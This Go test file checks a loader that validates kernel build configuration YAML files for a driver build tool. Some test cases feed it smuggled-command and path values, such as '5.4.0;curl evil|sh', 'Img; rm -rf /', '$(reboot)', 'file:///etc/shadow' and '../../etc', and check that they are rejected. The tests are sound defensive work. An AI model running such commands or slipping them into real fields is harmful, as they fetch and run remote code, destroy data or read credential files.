package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// a valid Ubuntu config; cases edit it.
const goodUbuntu = `kernelrelease: 5.15.0-1019-aws
kernelversion: "21~20.04.1"
target: ubuntu-aws
architecture: amd64
kernelurls:
  - https://example.org/pool/linux-headers-5.15.0-1019-aws_5.15.0-1019.21_amd64.deb
  - https://example.org/pool/linux-aws-headers-5.15.0-1019_5.15.0-1019.21_all.deb
`

const goodName = "x86_64/ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml"

// loadOne writes files into a temp config dir, loads it and returns the
// problems with the temp dir stripped from their paths.
func loadOne(t *testing.T, files map[string]string) ([]*Kernel, []string) {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	kernels, probs, err := Load(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, p := range probs {
		out = append(out, strings.TrimPrefix(p.String(), dir+string(filepath.Separator)))
	}
	return kernels, out
}

func TestValidConfigLoads(t *testing.T) {
	kernels, probs := loadOne(t, map[string]string{goodName: goodUbuntu})
	if len(probs) != 0 || len(kernels) != 1 {
		t.Fatalf("want 1 valid kernel, got %d kernels, problems %q", len(kernels), probs)
	}
	k := kernels[0]
	if k.KernelVersion != "21~20.04.1" || k.Target != "ubuntu-aws" || len(k.KernelURLs) != 2 || !k.SupportsProbe() {
		t.Errorf("decoded %+v", k)
	}
}

func TestValidationRules(t *testing.T) {
	edit := func(old, new string) string {
		if !strings.Contains(goodUbuntu, old) {
			panic(old)
		}
		return strings.Replace(goodUbuntu, old, new, 1)
	}
	const u1 = "https://example.org/pool/linux-headers-5.15.0-1019-aws_5.15.0-1019.21_amd64.deb"
	tests := []struct {
		name    string
		file    string
		content string
		want    []string
	}{
		{"yaml syntax", goodName, "kernelrelease: [\n", []string{
			goodName + ":1:1: invalid YAML: did not find expected node content"}},
		{"empty file", goodName, "  \n", []string{goodName + ": file is empty"}},
		{"binary garbage", goodName, "\x00\x01\xff\xfe", []string{goodName + ": file is not UTF-8 text"}},
		{"not a mapping", goodName, "- a\n- b\n", []string{goodName + ":1:1: top level must be a mapping of keys to values"}},
		{"two documents", goodName, goodUbuntu + "---\nkernelrelease: 1\n", []string{goodName + ":8:1: file holds more than one YAML document"}},
		{"unknown key", goodName, goodUbuntu + "colour: blue\n", []string{
			goodName + ":8:1: colour: unknown key (known keys: kernelrelease, kernelversion, target, architecture, kernelurls, kernelimageurls, kernelconfigdata, builderimage, gccversion)"}},
		{"driverversion is derived", goodName, goodUbuntu + "driverversion: 9.1.0+driver\n", []string{
			goodName + ":8:1: driverversion: the driver version is not set per kernel: dbg crosses every kernel with the driver versions of driverversions.yaml; remove this key"}},
		{"output is derived", goodName, goodUbuntu + "output:\n  module: a.ko\n", []string{
			goodName + ":8:1: output: outputs are not set per kernel: dbg derives file names and keys; remove this key"}},
		{"duplicate key", goodName, goodUbuntu + "target: ubuntu-aws\n", []string{
			goodName + ":8:1: target: key defined twice (first at line 3)"}},
		{"missing key", goodName, edit("target: ubuntu-aws\n", ""), []string{
			goodName + ":1:1: target: missing required key"}},
		{"list where a value belongs", goodName, edit("target: ubuntu-aws", "target: [ubuntu-aws]"), []string{
			goodName + ":3:9: target: must be a single value, not a list, mapping or alias"}},
		{"null value", goodName, edit("kernelversion: \"21~20.04.1\"", "kernelversion:"), []string{
			goodName + ":2:15: kernelversion: must not be empty"}},
		{"unknown target", "x86_64/gentoo_5.15.0-1019-aws_21~20.04.1.yaml", edit("target: ubuntu-aws", "target: gentoo"), []string{
			"x86_64/gentoo_5.15.0-1019-aws_21~20.04.1.yaml:3:9: target: \"gentoo\" is not a driverkit target (known: " + strings.Join(Targets(), ", ") + "; ubuntu takes a flavour: ubuntu-generic, ubuntu-aws, ...)"}},
		{"bare ubuntu target", "x86_64/ubuntu_5.15.0-1019-aws_21~20.04.1.yaml", edit("target: ubuntu-aws", "target: ubuntu"), []string{
			"x86_64/ubuntu_5.15.0-1019-aws_21~20.04.1.yaml:3:9: target: \"ubuntu\" is not a driverkit target (known: " + strings.Join(Targets(), ", ") + "; ubuntu takes a flavour: ubuntu-generic, ubuntu-aws, ...)"}},
		{"target with shell syntax", goodName, edit("target: ubuntu-aws", "target: \"ubuntu;reboot\""), []string{
			goodName + ":3:9: target: \"ubuntu;reboot\" must be lowercase letters and digits joined by single dashes or dots"}},
		{"bad architecture", goodName, edit("architecture: amd64", "architecture: riscv64"), []string{
			goodName + ":4:15: architecture: \"riscv64\" is not a supported architecture (want amd64 or arm64)"}},
		{"architecture disagrees with folder", "aarch64/ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml", goodUbuntu, []string{
			"aarch64/ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml:4:15: architecture: amd64 does not match the folder aarch64/ (amd64 lives in x86_64/, arm64 in aarch64/)"}},
		{"release with shell injection", goodName, edit("kernelrelease: 5.15.0-1019-aws", "kernelrelease: \"5.4.0;curl evil|sh\""), []string{
			goodName + ":1:16: kernelrelease: \"5.4.0;curl evil|sh\" must start with a digit and use only [A-Za-z0-9._+~-] (at most 128)"}},
		{"release with path traversal", goodName, edit("kernelrelease: 5.15.0-1019-aws", "kernelrelease: ../../etc"), []string{
			goodName + ":1:16: kernelrelease: \"../../etc\" must start with a digit and use only [A-Za-z0-9._+~-] (at most 128)"}},
		{"release does not parse", "x86_64/ubuntu-aws_6.0~rc7-1_21~20.04.1.yaml", edit("kernelrelease: 5.15.0-1019-aws", "kernelrelease: 6.0~rc7-1"), []string{
			"x86_64/ubuntu-aws_6.0~rc7-1_21~20.04.1.yaml:1:16: kernelrelease: \"6.0~rc7-1\" does not parse as a kernel release (like 6.1.0-47-amd64)"}},
		{"release number overflow", "x86_64/ubuntu-aws_99999999999999999999999.1.1_21~20.04.1.yaml", edit("kernelrelease: 5.15.0-1019-aws", "kernelrelease: 99999999999999999999999.1.1"), []string{
			"x86_64/ubuntu-aws_99999999999999999999999.1.1_21~20.04.1.yaml:1:16: kernelrelease: \"99999999999999999999999.1.1\" has a number of 10 or more digits"}},
		{"kernel too old for amd64", "x86_64/ubuntu-aws_3.9.0-1_21~20.04.1.yaml", edit("kernelrelease: 5.15.0-1019-aws", "kernelrelease: 3.9.0-1"), []string{
			"x86_64/ubuntu-aws_3.9.0-1_21~20.04.1.yaml:1:16: kernelrelease: kernel 3.9.0 is older than 3.10, the oldest supported on amd64"}},
		{"kernel too old for arm64", "aarch64/ubuntu-aws_3.15.0-1_21~20.04.1.yaml", strings.NewReplacer("kernelrelease: 5.15.0-1019-aws", "kernelrelease: 3.15.0-1", "amd64\n", "arm64\n").Replace(goodUbuntu), []string{
			"aarch64/ubuntu-aws_3.15.0-1_21~20.04.1.yaml:1:16: kernelrelease: kernel 3.15.0 is older than 3.16, the oldest supported on arm64"}},
		{"kernelversion with slash", goodName, edit("kernelversion: \"21~20.04.1\"", "kernelversion: a/b"), []string{
			goodName + ":2:16: kernelversion: \"a/b\" has characters outside [A-Za-z0-9._+~-] or is longer than 64"}},
		{"too few urls for ubuntu", goodName, edit("  - https://example.org/pool/linux-aws-headers-5.15.0-1019_5.15.0-1019.21_all.deb\n", ""), []string{
			goodName + ":6:3: kernelurls: target ubuntu-aws needs at least 2 header URLs, got 1"}},
		{"relative url", goodName, edit(u1, "pool/linux-headers.deb"), []string{
			goodName + ":6:5: kernelurls[0]: \"pool/linux-headers.deb\" must be an absolute http(s) URL of at most 2048 characters from [A-Za-z0-9._~:/%+-] (no spaces, quotes, query or credentials)"}},
		{"url with shell syntax", goodName, edit(u1, "\"https://example.org/$(reboot)\""), []string{
			goodName + ":6:5: kernelurls[0]: \"https://example.org/$(reboot)\" must be an absolute http(s) URL of at most 2048 characters from [A-Za-z0-9._~:/%+-] (no spaces, quotes, query or credentials)"}},
		{"url without host", goodName, edit(u1, "https:///pool/x.deb"), []string{
			goodName + ":6:5: kernelurls[0]: \"https:///pool/x.deb\" has no host"}},
		{"file url", goodName, edit(u1, "file:///etc/shadow"), []string{
			goodName + ":6:5: kernelurls[0]: \"file:///etc/shadow\" must be an absolute http(s) URL of at most 2048 characters from [A-Za-z0-9._~:/%+-] (no spaces, quotes, query or credentials)"}},
		{"url twice", goodName, edit("https://example.org/pool/linux-aws-headers-5.15.0-1019_5.15.0-1019.21_all.deb", u1), []string{
			goodName + ":7:5: kernelurls[1]: \"" + u1 + "\" is listed twice"}},
		{"urls not a list", goodName, edit("kernelurls:\n  - "+u1+"\n  - https://example.org/pool/linux-aws-headers-5.15.0-1019_5.15.0-1019.21_all.deb", "kernelurls: "+u1), []string{
			goodName + ":5:13: kernelurls: must be a list of URLs"}},
		{"image url with shell syntax", goodName, goodUbuntu + "kernelimageurls:\n  - \"https://example.org/$(reboot)\"\n", []string{
			goodName + ":9:5: kernelimageurls[0]: \"https://example.org/$(reboot)\" must be an absolute http(s) URL of at most 2048 characters from [A-Za-z0-9._~:/%+-] (no spaces, quotes, query or credentials)"}},
		{"image url to a private address", goodName, goodUbuntu + "kernelimageurls:\n  - http://127.0.0.1/vmlinuz\n", []string{
			goodName + ":9:5: kernelimageurls[0]: \"http://127.0.0.1/vmlinuz\": host 127.0.0.1 is a loopback address (127.0.0.0/8): downloads run on the CI runner, so only public addresses are allowed (--allow-private-urls for a lab)"}},
		{"image url twice", goodName, goodUbuntu + "kernelimageurls:\n  - https://example.org/a.deb\n  - https://example.org/a.deb\n", []string{
			goodName + ":10:5: kernelimageurls[1]: \"https://example.org/a.deb\" is listed twice"}},
		{"too many image urls", goodName, goodUbuntu + "kernelimageurls: [https://example.org/1, https://example.org/2, https://example.org/3, https://example.org/4, https://example.org/5]\n", []string{
			goodName + ":8:18: kernelimageurls: lists 5 kernel image URLs, more than the 4 allowed"}},
		{"image urls not a list", goodName, goodUbuntu + "kernelimageurls: https://example.org/a.deb\n", []string{
			goodName + ":8:18: kernelimageurls: must be a list of URLs"}},
		{"bad base64", goodName, goodUbuntu + "kernelconfigdata: \"not base64!\"\n", []string{
			goodName + ":8:19: kernelconfigdata: is not valid base64: illegal base64 data at input byte 3"}},
		{"vanilla needs kernelconfigdata", "x86_64/vanilla_5.15.0-1019-aws_21~20.04.1.yaml", edit("target: ubuntu-aws", "target: vanilla"), []string{
			"x86_64/vanilla_5.15.0-1019-aws_21~20.04.1.yaml: kernelconfigdata: target vanilla requires kernelconfigdata (the base64 of the kernel's .config)"}},
		{"debian needs three urls", "x86_64/debian_5.15.0-1019-aws_21~20.04.1.yaml", edit("target: ubuntu-aws", "target: debian"), []string{
			"x86_64/debian_5.15.0-1019-aws_21~20.04.1.yaml:6:3: kernelurls: target debian needs at least 3 header URLs, got 2"}},
		{"bad builder image", goodName, goodUbuntu + "builderimage: \"Img; rm -rf /\"\n", []string{
			goodName + ":8:15: builderimage: \"Img; rm -rf /\" is not a valid image reference (lowercase name, optional :tag and @sha256:digest)"}},
		{"good builder image and gcc", goodName, goodUbuntu + "builderimage: dbg-builder:bookworm-amd64\ngccversion: 12.2.0\n", nil},
		{"bad gcc", goodName, goodUbuntu + "gccversion: twelve\n", []string{
			goodName + ":8:13: gccversion: \"twelve\" is not a gcc version like 12 or 12.2.0"}},
		{"file name mismatch", "x86_64/ubuntu-aws_5.15.0-1019-aws_1.yaml", goodUbuntu, []string{
			"x86_64/ubuntu-aws_5.15.0-1019-aws_1.yaml: file name does not match its content: want ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml (<target>_<kernelrelease>_<kernelversion>.yaml)"}},
		{"yml extension", "x86_64/ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yml", goodUbuntu, []string{
			"x86_64/ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yml: kernel config files end in .yaml"}},
		{"unknown arch folder", "riscv/ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml", goodUbuntu, []string{
			"riscv: unknown architecture folder \"riscv\" (want x86_64 or aarch64)"}},
		{"config outside arch folder", "ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml", goodUbuntu, []string{
			"ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml: kernel configs belong in an architecture folder (x86_64/ or aarch64/)"}},
		{"too large", goodName, goodUbuntu + "# " + strings.Repeat("x", MaxFileSize) + "\n", []string{
			goodName + ": file is larger than the 1048576 bytes allowed"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, got := loadOne(t, map[string]string{tc.file: tc.content})
			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
				t.Errorf("problems:\n got: %q\nwant: %q", got, tc.want)
			}
		})
	}
}

func TestDuplicateKernel(t *testing.T) {
	kernels, got := loadOne(t, map[string]string{
		goodName:              goodUbuntu,
		"x86_64/zz-copy.yaml": goodUbuntu,
	})
	want := []string{
		"x86_64/zz-copy.yaml: file name does not match its content: want ubuntu-aws_5.15.0-1019-aws_21~20.04.1.yaml (<target>_<kernelrelease>_<kernelversion>.yaml)",
		"x86_64/zz-copy.yaml: the same kernel is already defined in ",
	}
	if len(got) != 2 || got[0] != want[0] || !strings.HasPrefix(got[1], want[1]) || !strings.HasSuffix(got[1], goodName) {
		t.Fatalf("problems %q", got)
	}
	if len(kernels) != 1 {
		t.Errorf("want the first definition kept, got %d kernels", len(kernels))
	}
}

func TestEveryProblemOfEveryFileIsReported(t *testing.T) {
	bad := strings.Replace(goodUbuntu, "architecture: amd64", "architecture: mips", 1) + "colour: blue\n"
	_, got := loadOne(t, map[string]string{
		goodName:            bad,
		"x86_64/other.yaml": "kernelrelease: [",
	})
	if len(got) != 3 {
		t.Fatalf("want 3 problems over 2 files, got %q", got)
	}
}

// Validate checks the values of any kernel, not only of a decoded one: a
// kernel built in code has no positions, and each bad field is one problem.
// driverkit reads "ubuntu;reboot" as an ubuntu target, which needs two
// header URLs: the list (kernelurls) is too short, and its entry
// (kernelurls[0]) is not an http(s) URL.
func TestValidateKernelBuiltInCode(t *testing.T) {
	k := &Kernel{KernelRelease: "$(reboot)", KernelVersion: "1", Target: "ubuntu;reboot", Architecture: AMD64,
		KernelURLs: []string{"file:///etc/shadow"}, BuilderImage: "Evil Image", GCCVersion: "12; rm -rf /"}
	wantProblems(t, k.Validate(),
		`target: "ubuntu;reboot" must be lowercase letters and digits joined by single dashes or dots`,
		`kernelrelease: "$(reboot)" must start with a digit and use only [A-Za-z0-9._+~-] (at most 128)`,
		`kernelurls: target ubuntu;reboot needs at least 2 header URLs, got 1`,
		`kernelurls[0]: "file:///etc/shadow" must be an absolute http(s) URL of at most 2048 characters from [A-Za-z0-9._~:/%+-] (no spaces, quotes, query or credentials)`,
		`builderimage: "Evil Image" is not a valid image reference (lowercase name, optional :tag and @sha256:digest)`,
		`gccversion: "12; rm -rf /" is not a gcc version like 12 or 12.2.0`,
	)
}

// A required field without a value is missing, whatever made the kernel.
func TestValidateEmptyKernel(t *testing.T) {
	wantProblems(t, (&Kernel{}).Validate(),
		"architecture: missing required key",
		"target: missing required key",
		"kernelrelease: missing required key",
		"kernelversion: missing required key",
		"kernelurls: missing required key",
	)
}

// wantProblems compares problems, which have no path or position and one
// per field, with want ("field: message"), in order.
func wantProblems(t *testing.T, probs Problems, want ...string) {
	t.Helper()
	var got []string
	fields := map[string]bool{}
	for _, p := range probs {
		if p.Path != "" || p.Line != 0 || p.Col != 0 || p.IsWarning() {
			t.Errorf("problem %q has a path, a position or is a warning", p)
		}
		if fields[p.Field] {
			t.Errorf("field %s has more than one problem", p.Field)
		}
		fields[p.Field] = true
		got = append(got, p.Field+": "+p.Msg)
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("problems:\n got: %q\nwant: %q", got, want)
	}
}
